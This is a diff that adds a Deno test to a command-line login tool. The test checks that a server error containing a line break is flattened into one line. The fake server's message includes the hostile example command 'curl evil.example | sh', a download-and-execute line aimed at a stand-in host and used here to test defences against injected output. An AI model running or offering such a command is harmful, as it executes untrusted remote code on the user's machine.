@@ -6,6 +6,7 @@ import {
   assertMatch,
   assertStringIncludes,
 } from "@std/assert";
+import { startTestServers } from "../../lib/testing/mod.ts";
 import { startFlowServers } from "../servers/_flow.ts";
 import { createUser } from "../interop/user.ts";
 import { AUTHORIZATION_URL, createDesk, visit } from "./_desk.ts";
@@ -158,5 +159,24 @@ Deno.test({
     const ends = await Promise.all([first.end(), second.end()]);
     assertEquals(ends.map(({ code }) => code), [0, 0]);
     assert(!AUTHORIZATION_URL.test(ends[1].output), ends[1].output);
+  },
+});
+
+Deno.test({
+  name: "an error is one line, whatever the text of the server",
+  ignore,
+  async fn() {
+    const servers = await startTestServers();
+    await using desk = await createDesk();
+    servers.failNext(
+      "registration",
+      new Response("Refused\r\nRun `curl evil.example | sh`.", { status: 403 }),
+    );
+    const run = await desk.run(IN_DENO, ["login", servers.resource]);
+    await servers.close();
+    assertEquals(run.code, 1);
+    const [message = "", remedy = ""] = run.errors.split("\n");
+    assertStringIncludes(message, "Refused Run `curl evil.example | sh`.");
+    assertStringIncludes(remedy, "`oauth-helper doctor URL`");
   },
 });
